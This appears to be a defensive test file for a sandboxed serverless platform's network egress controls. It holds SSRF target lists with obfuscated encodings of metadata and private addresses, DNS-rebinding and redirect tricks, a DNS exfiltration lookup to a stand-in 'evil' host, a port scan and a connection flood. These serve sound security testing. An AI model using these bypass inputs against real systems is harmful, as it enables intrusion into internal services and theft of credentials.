/** Hostile code, cases 22-26 and 32: the network. What is behind the broker is played by servers of this test. */
import { createServer as createHttp } from 'node:http';
import { connect, createServer as createNet } from 'node:net';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { listening } from '../support/listening.ts';
import { NameServer } from '../support/name-server.ts';
import { eventually } from '../support/platform.ts';
import { Arena } from './arena.ts';
import { hasOwnKernel } from '../support/test-driver.ts';

const dns = await NameServer.start();
let redirect = '';
const upstream = createHttp((_request, response) => response.writeHead(302, { location: redirect }).end());
/** The operator's own: no tenant was ever allowed to see it. */
const secret = createHttp((_request, response) => response.end('the keys of the operator'));
let secretHits = 0;
secret.on('connection', () => (secretHits += 1));
const sink = createNet((socket) => void socket.on('error', () => socket.destroy()).resume());
const upstreamPort = await listening(upstream);
const secretPort = await listening(secret);
const sinkPort = await listening(sink);

/** What a kernel without a route says: the host's, and gVisor's. */
const noRoute = hasOwnKernel ? 'EHOSTUNREACH' : 'ENETUNREACH';
const arena = Arena.prepare(
  { egressConnections: 20, egressOpensPerSecond: 100 },
  {
    BERTH_EGRESS_DNS: dns.address,
    BERTH_EGRESS_ALLOW: `127.0.0.1:${upstreamPort},127.0.0.1:${sinkPort},home.test`,
  },
);

beforeEach(() => {
  dns.names.clear();
  dns.names.set('upstream.test', { a: ['127.0.0.1'] });
  // The platform's public name, which its operator lets tenants reach.
  dns.names.set('home.test', { a: ['127.0.0.1'] });
  secretHits = 0;
});
afterAll(() => {
  dns.close();
  for (const server of [upstream, secret, sink]) server.close();
});

/** Connects to each target. @returns the code of each failure, or `connected` */
const KNOCK = `
  const net = require('node:net');
  const knock = (host, port) => new Promise((done) => {
    const socket = net.connect({ host, port });
    socket.once('connect', () => { socket.destroy(); done('connected'); });
    socket.once('error', (error) => done(error.code + ' ' + error.message));
    setTimeout(() => done('nothing'), 5_000).unref();
  });`;

describe('22: addresses that are nobody’s business', () => {
  const targets = {
    'metadata services': ['169.254.169.254', 'fd00:ec2::254', '100.100.100.200', '169.254.170.2'],
    'private networks': ['10.0.0.1', '172.16.0.1', '192.168.1.1', 'fc00::1', '100.64.0.1'],
    'multicast and what is reserved': ['224.0.0.1', 'ff02::1', '240.0.0.1', '255.255.255.255'],
    'odd spellings': [
      '2852039166',
      '0xa9fea9fe',
      '0251.0376.0251.0376',
      '169.254.43518',
      '0xa.1',
      '012.0.0.1',
      '167772161',
      '::ffff:10.0.0.1',
      '::ffff:a9fe:a9fe',
      '::10.0.0.1',
      '64:ff9b::a9fe:a9fe',
      '2002:a9fe:a9fe::1',
      '2001:0:a9fe:a9fe::1',
      'fe80::1%lo',
    ],
    'the host, by odd spellings of loopback': ['0x7f.1', '2130706433', '0177.0.0.1', '127.1', '0'],
  };
  for (const [what, hosts] of Object.entries(targets)) {
    it(`${what}: refused, with the reason, and logged`, async () => {
      const seen = await arena.result<string[]>(
        `${KNOCK} module.exports = async () => Promise.all(${JSON.stringify(hosts)}.map((host) => knock(host, ${secretPort})));`,
        'scan',
      );
      for (const [index, text] of seen.entries())
        expect(text, hosts[index]).toMatch(/^EACCES connect EACCES .*: it is an? .* address$/);
      await arena.logLine('scan', /^egress: connect .* refused: it is a .* address$/);
      expect(secretHits).toBe(0);
    });
  }

  it('by fetch, in the spellings that URLs know', async () => {
    const urls = [
      'http://169.254.169.254/',
      'http://[fd00:ec2::254]/',
      'http://0xa9.0xfe.0xa9.0xfe/',
      'http://2852039166/',
    ];
    const seen = await arena.result<string[]>(`
      module.exports = async () => Promise.all(${JSON.stringify(urls)}.map((url) => fetch(url).then(() => 'fetched', ({ cause }) => cause.code)));`);
    expect(seen).toEqual(urls.map(() => 'EACCES'));
  });

  it('by a worker thread, with the platform’s hooks in it and with Node’s own class that has none', async () => {
    const code = `${KNOCK}
      Promise.all(['169.254.169.254', '10.0.0.1'].map((host) => knock(host, ${secretPort}))).then((seen) => require('node:worker_threads').parentPort.postMessage(seen));`;
    const seen = await arena.result<{ hooked: string[]; bare: string[] }>(
      `
      const { Worker } = require('node:worker_threads');
      const Bare = Worker.prototype.constructor;
      const run = (Kind) => new Promise((done, fail) => new Kind(${JSON.stringify(code)}, { eval: true }).once('message', done).once('error', fail));
      module.exports = async () => ({ hooked: await run(Worker), bare: await run(Bare), differ: Bare !== Worker });`,
      'threads',
    );
    expect(seen).toMatchObject({ differ: true });
    for (const text of seen.hooked) expect(text).toMatch(/^EACCES connect EACCES .*: it is an? .* address$/);
    for (const text of seen.bare) expect(text).toMatch(new RegExp(`^${noRoute} `));
    await arena.logLine('threads', /^egress: connect .* refused: it is a .* address$/);
    expect(secretHits).toBe(0);
  });

  it('loopback is the sandbox’s own, where nothing of the host listens', async () => {
    const hosts = ['127.0.0.1', 'localhost', '::1', '0.0.0.0', '::', '127.255.255.254', '::ffff:127.0.0.1'];
    const ports = [secretPort, Number(new URL(arena.platform.url).port)];
    const seen = await arena.result<string[]>(`
      ${KNOCK} module.exports = async () => Promise.all(${JSON.stringify(hosts)}.flatMap((host) => ${JSON.stringify(ports)}.map((port) => knock(host, port))));`);
    for (const text of seen) expect(text).toMatch(/^(?:ECONNREFUSED|EADDRNOTAVAIL|ENETUNREACH) /);
    expect(secretHits).toBe(0);
  });
});

describe('23: names that lead inside', () => {
  it('a name that resolves to a private address is refused, and its address is not told', async () => {
    for (const [name, address] of [
      ['inner.test', '10.1.2.3'],
      ['meta.test', '169.254.169.254'],
      ['loop.test', '127.0.0.1'],
    ] as const)
      dns.names.set(name, { a: [address] });
    const seen = await arena.result<{ knocks: string[]; looked: string[] }>(
      `
      ${KNOCK}
      const names = ['inner.test', 'meta.test', 'loop.test'];
      module.exports = async () => ({
        knocks: await Promise.all(names.map((name) => knock(name, ${secretPort}))),
        looked: await Promise.all(names.map((name) => require('node:dns').promises.lookup(name).then(({ address }) => address, ({ code }) => code))),
      });`,
      'names',
    );
    for (const text of seen.knocks)
      expect(text).toMatch(/^EACCES connect EACCES \w+\.test:\d+: it is a (private|link-local|loopback) /);
    expect(seen.looked[0]).toBe('EACCES');
    expect(seen.looked[1]).toBe('EACCES');
    await arena.logLine('names', /connect inner\.test:\d+ refused: it is a private address/);
    expect(secretHits).toBe(0);
  });

  it('a name that changes between look-up and connection gains nothing', async () => {
    let turn = 0;
    dns.names.set('rebind.test', () => ({ a: [turn++ % 2 === 0 ? '93.184.215.14' : '127.0.0.1'] }));
    const seen = await arena.result<string[]>(`
      ${KNOCK}
      module.exports = async () => {
        const all = [];
        for (let n = 0; n < 10; n++) {
          await require('node:dns').promises.lookup('rebind.test').catch(() => undefined);
          all.push(await Promise.race([knock('rebind.test', ${secretPort}), new Promise((done) => setTimeout(done, 300, 'waits'))]));
        }
        return all;
      };`);
    expect(seen.filter((text) => text === 'connected')).toEqual([]);
    expect(secretHits).toBe(0);
  });

  it('a redirect to a private address is refused', async () => {
    for (const location of [
      `http://127.0.0.1:${secretPort}/`,
      'http://169.254.169.254/',
      `http://loop.test:${secretPort}/`,
    ]) {
      dns.names.set('loop.test', { a: ['127.0.0.1'] });
      redirect = location;
      const code = await arena.result<string>(`
        module.exports = async () => fetch('http://upstream.test:${upstreamPort}/').then((r) => r.text(), ({ cause }) => cause.code);`);
      expect(['EACCES', 'ECONNREFUSED'], location).toContain(code);
    }
    expect(secretHits).toBe(0);
  });

  it('the DNS is no way out for what the policy does not name', async () => {
    await arena.platform.must('PATCH', '/v1/tenants/attacker', { egress: [`upstream.test:${upstreamPort}`] });
    const seen = await arena.result<string[]>(`
      const dns = require('node:dns').promises;
      module.exports = async () => Promise.all([dns.lookup, dns.resolve4, dns.resolveTxt, dns.resolveMx, dns.resolveAny].map((ask) => ask('stolen-key.evil.test').then(() => 'told', ({ code }) => code)));`);
    await arena.platform.must('PATCH', '/v1/tenants/attacker', { egress: 'public' });
    expect(seen).toEqual(['EACCES', 'EACCES', 'EACCES', 'EACCES', 'EACCES']);
    expect(dns.asked).not.toContain('stolen-key.evil.test');
  });
});

describe('24: connections without number', () => {
  it('ten thousand at once: as many as egressConnections allows, the others hear why', async () => {
    const seen = await arena.result<Record<string, number>>(
      `
      const net = require('node:net');
      module.exports = async () => {
        const counts = {};
        const count = (what) => (counts[what] = (counts[what] ?? 0) + 1);
        const sockets = [];
        const knocks = [];
        // Making so many takes gVisor seconds: who wants to go on must let his loop turn.
        for (let made = 0; made < 10_000; made++) {
          if (made % 500 === 0) await new Promise(setImmediate);
          knocks.push(new Promise((done) => {
            const socket = net.connect(${sinkPort}, 'upstream.test');
            sockets.push(socket);
            socket.once('connect', () => done(count('connected'))).once('error', ({ code }) => done(count(code)));
          }));
        }
        await Promise.all(knocks);
        for (const socket of sockets) socket.destroy();
        return counts;
      };`,
      'flood',
    );
    expect(seen['connected']).toBe(20);
    expect(Object.values(seen).reduce((sum, one) => sum + one, 0)).toBe(10_000);
    expect(Object.keys(seen).filter((code) => !['connected', 'EMFILE', 'EAGAIN'].includes(code))).toEqual([]);
    await arena.logLine('flood', /the limit egress(?:Connections|OpensPerSecond) \(\d+\) is reached/);
    await arena.logLine('flood', /^egress: \d+ more refusals in the last second$/);
    await eventually(async () => expect(await arena.platform.metric('berth_egress_open')).toBe(0));
  });

  it('a scan of ports finds nothing, and the log stays short', async () => {
    const open = await arena.result<string[]>(
      `
      ${KNOCK}
      module.exports = async () => {
        const found = [];
        for (let port = 1; port <= 600; port++) if ((await knock('10.0.0.1', port)) === 'connected') found.push(port);
        return found;
      };`,
      'ports',
    );
    expect(open).toEqual([]);
    expect((await arena.platform.logs('attacker', 'ports')).length).toBeLessThan(150);
  });

  it('mail: port 25 is closed even where the address is public', async () => {
    dns.names.set('mx.test', { a: ['93.184.215.14'] });
    const seen = await arena.result<string>(`${KNOCK} module.exports = async () => knock('mx.test', 25);`);
    expect(seen).toBe('EACCES connect EACCES mx.test:25: 93.184.215.14: port 25 is not open');
  });
});

it('25: what listens inside is reached by nobody else', async () => {
  await arena.deploy(
    'listener',
    `
    const net = require('node:net');
    let port = 0;
    const server = net.createServer((socket) => socket.end('inside')).listen(0, '0.0.0.0', () => (port = server.address().port));
    module.exports = async () => { while (port === 0) await new Promise((done) => setTimeout(done, 5)); return port; };`,
  );
  const port = (await (await arena.platform.call('attacker', 'listener')).json()) as number;
  const fromHost = await new Promise<string>((resolve) => {
    connect(port, '127.0.0.1')
      .once('connect', () => resolve('connected'))
      .once('error', ({ code }: NodeJS.ErrnoException) => resolve(code ?? ''));
  });
  expect(fromHost).toBe('ECONNREFUSED');
  await arena.platform.deploy(
    'victim',
    'knocker',
    `${KNOCK} module.exports = async () => [await knock('127.0.0.1', ${port}), await knock('0.0.0.0', ${port})];`,
  );
  const others = (await (await arena.platform.call('victim', 'knocker')).json()) as string[];
  for (const text of others) expect(text).toMatch(/^ECONNREFUSED/);
  await arena.platform.must('DELETE', '/v1/tenants/victim/functions/knocker');
});

it('26: UDP, an outside resolver, raw sockets: no route', async () => {
  const seen = await arena.result<Record<string, string>>(`
    const dgram = require('node:dgram');
    const udp = (port, host) => new Promise((done) => {
      const socket = dgram.createSocket('udp4');
      socket.once('error', ({ code }) => done(code));
      socket.send('x', port, host, (error) => done(error?.code ?? 'sent'));
    });
    const resolver = new (require('node:dns').promises.Resolver)({ timeout: 500, tries: 1 });
    resolver.setServers(['8.8.8.8']);
    module.exports = async () => ({
      far: await udp(53, '8.8.8.8'),
      near: await udp(${Number(dns.address.split(':')[1])}, '10.0.0.1'),
      resolver: await resolver.resolve4('only.test').then(([address]) => address, ({ code }) => code),
    });`);
  expect(seen['far']).toBe(noRoute);
  expect(seen['near']).toBe(noRoute);
  // asked of the broker, not of 8.8.8.8
  expect(seen['resolver']).toBe('ENOTFOUND');
  expect(dns.asked).toContain('only.test');
});

describe('32: a function that calls itself for ever', () => {
  let startedAt = 0;
  beforeEach(() => {
    startedAt = Date.now();
  });
  /** Of this test: logs stay when a function is gone. */
  async function rounds(): Promise<number> {
    const lines = await arena.platform.logs('attacker', 'circle');
    return lines.filter(({ at, text }) => at >= startedAt && text.startsWith('round')).length;
  }
  const self = (before: string): string => `
    module.exports = async (ctx) => {
      ${before}
      const response = await fetch('http://circle.berth.internal/?n=' + (Number(ctx.query.n ?? 0) + 1));
      return { status: response.status, ...(await response.json()) };
    };`;

  it('gets LOOP_DETECTED', async () => {
    const seen = await arena.result<{ code: string; hops: number }>(self(''), 'circle');
    expect(seen).toMatchObject({ code: 'LOOP_DETECTED', hops: 9 });
  });

  const homeUrl = (): string => `http://home.test:${arena.platform.port}/run/attacker/circle`;

  it('over the public address of the platform, on raw sockets', async () => {
    const seen = await arena.result<unknown>(
      `
      const net = require('node:net');
      module.exports = (ctx, cb) => {
        const socket = net.connect(${arena.platform.port}, 'home.test', () => socket.write('GET /run/attacker/circle HTTP/1.1\\r\\nHost: home.test\\r\\nX-Berth-Hops: 0\\r\\n\\r\\n'));
        let text = '';
        socket.on('data', (chunk) => (text += chunk)).on('error', cb).on('close', () => cb(null, {
          depth: Number(/"depth":(\\d+)/.exec(text)?.[1] ?? 0) + 1,
          end: /"end":"(\\w+)"/.exec(text)?.[1] ?? /"code":"(\\w+)"/.exec(text)?.[1],
        }));
      };`,
      'circle',
    );
    expect(seen).toEqual({ depth: 9, end: 'LOOP_DETECTED' });
  });

  it('over the public address, by a function that sends, hangs up and answers', async () => {
    await arena.deploy(
      'circle',
      `
      const net = require('node:net');
      module.exports = (ctx, cb) => {
        console.log('round');
        const socket = net.connect(${arena.platform.port}, 'home.test', () =>
          socket.write('GET /run/attacker/circle HTTP/1.1\\r\\nHost: home.test\\r\\n\\r\\n', () => socket.destroy()));
        socket.on('error', () => undefined);
        cb(null, {});
      };`,
    );
    await arena.platform.call('attacker', 'circle');
    await arena.logLine('circle', /LOOP_DETECTED/);
    expect(await rounds()).toBeLessThan(15);
  });

  it('over the public address, with connections that are kept for later', async () => {
    await arena.deploy(
      'circle',
      `
      module.exports = async (ctx) => {
        console.log('round');
        setTimeout(async () => {
          const response = await fetch('${homeUrl()}');
          if (response.status !== 200) console.log('ended ' + (await response.json()).code);
          else await response.text();
        }, 5);
        return {};
      };`,
    );
    await arena.platform.call('attacker', 'circle');
    await arena.logLine('circle', /^ended LOOP_DETECTED$/);
    expect(await rounds()).toBeLessThan(15);
  });

  it('also when it answers first and calls afterwards', async () => {
    await arena.deploy(
      'circle',
      `
      module.exports = async (ctx) => {
        const n = Number(ctx.query.n ?? 0);
        console.log('round ' + n);
        setTimeout(async () => {
          const response = await fetch('http://circle.berth.internal/?n=' + (n + 1));
          if (response.status !== 200) console.log('ended ' + (await response.json()).code);
        }, 5);
        return {};
      };`,
    );
    await arena.platform.call('attacker', 'circle');
    await arena.logLine('circle', /^ended LOOP_DETECTED$/);
    expect(await rounds()).toBeLessThan(15);
  });
});
